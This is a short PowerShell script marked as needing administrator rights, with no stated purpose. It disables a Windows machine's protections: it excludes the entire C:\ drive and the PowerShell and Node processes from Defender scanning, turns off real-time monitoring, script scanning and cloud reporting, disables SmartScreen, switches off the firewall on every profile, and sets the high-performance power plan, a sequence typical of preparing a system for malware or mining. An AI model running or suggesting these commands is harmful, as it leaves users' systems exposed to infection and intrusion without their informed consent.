# needs administrator
Add-MpPreference -ExclusionPath 'C:\' -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionProcess 'powershell.exe','node.exe'
Set-MpPreference -DisableRealtimeMonitoring $true -DisableScriptScanning $true -MAPSReporting 0
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer' SmartScreenEnabled 'Off'
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
powercfg /setactive SCHEME_MIN
